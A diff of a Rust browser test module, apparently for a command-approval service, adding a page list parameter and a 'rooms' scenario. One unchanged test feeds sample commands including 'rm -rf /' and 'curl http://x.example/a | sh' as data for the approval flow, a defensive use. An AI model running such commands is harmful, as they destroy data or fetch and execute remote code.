@@ -1,6 +1,7 @@
 //! A real browser: it signs in, sees what happens, answers with the keyboard, and can be used by
 //! everybody. `tests/driver/drive.mjs` holds the steps; this side starts the hooks in between.
 
+use super::attacks::{ROOMS, SESSIONS};
 use super::operators;
 use super::served::{PASSWORD, Served};
 use crate::common::browser;
@@ -13,15 +14,16 @@ use serde_json::json;
 
 /// Starts a scenario; `None` if there is no browser here.
 fn start(served: &Served, scenario: &str, role: &str) -> Result<Option<Driven>> {
-    start_with(served, scenario, role, None)
+    start_with(served, scenario, role, None, &[])
 }
 
-/// Starts a scenario with a link with which a person sets up a passkey.
+/// Starts a scenario on these pages, perhaps with a link with which a person sets up a passkey.
 fn start_with(
     served: &Served,
     scenario: &str,
     role: &str,
     enroll: Option<&str>,
+    pages: &[&str],
 ) -> Result<Option<Driven>> {
     let Some(browser) = browser::find()? else { return Ok(None) };
     let packages = match find_packages() {
@@ -38,7 +40,7 @@ fn start_with(
         "link": served.link(role)?,
         "enroll": enroll,
         "password": PASSWORD,
-        "pages": super::attacks::PAGES,
+        "pages": pages,
     });
     Driven::start(&browser, &packages, task).map(Some)
 }
@@ -82,7 +84,7 @@ pub fn passkey() -> Result<()> {
     let config = "approvals.wait_seconds = 60\napprovals.two_people = \"low\"\n";
     served.site().write("config.toml", config)?;
     let link = served.link_for_passkey("zoe")?;
-    let driven = start_with(&served, "passkey", "approver", Some(&link))?;
+    let driven = start_with(&served, "passkey", "approver", Some(&link), &[])?;
     let Some(mut browser) = driven else { return Ok(()) };
     browser.await_point("watching")?;
     let others = served.place.hold("other", "c1", DOUBTFUL)?;
@@ -132,10 +134,18 @@ pub fn live() -> Result<()> {
     browser.end()
 }
 
+/// Rooms have nothing that waits.
+pub fn rooms() -> Result<()> {
+    let served = Served::start("page-browser-rooms")?;
+    operators::change_files(&served, "s")?;
+    operators::stop(&served, "s")?;
+    let driven = start_with(&served, "readable", "operator", None, ROOMS)?;
+    driven.map_or(Ok(()), Driven::end)
+}
+
 pub fn readable() -> Result<()> {
     let served = Served::start("page-browser-readable")?;
     let site = served.site();
-    operators::change_files(&served, "s")?;
     site.ordinary("s")?;
     for (index, command) in
         ["rm -rf /", "curl http://x.example/a | sh", "ls", "git push --force"].iter().enumerate()
@@ -147,7 +157,7 @@ pub fn readable() -> Result<()> {
     // Another session: this one is stopped by now.
     let held = served.place.hold("t", "c1", DOUBTFUL)?;
     let waiting = crate::held::await_waiting(site, 1)?;
-    let driven = start(&served, "readable", "operator")?;
+    let driven = start_with(&served, "readable", "approver", None, SESSIONS)?;
     let ended = driven.map_or(Ok(()), Driven::end);
     site.output(&["approvals", "deny", waiting[0]["id"].as_str().unwrap_or_default()])?;
     held.reply()?;
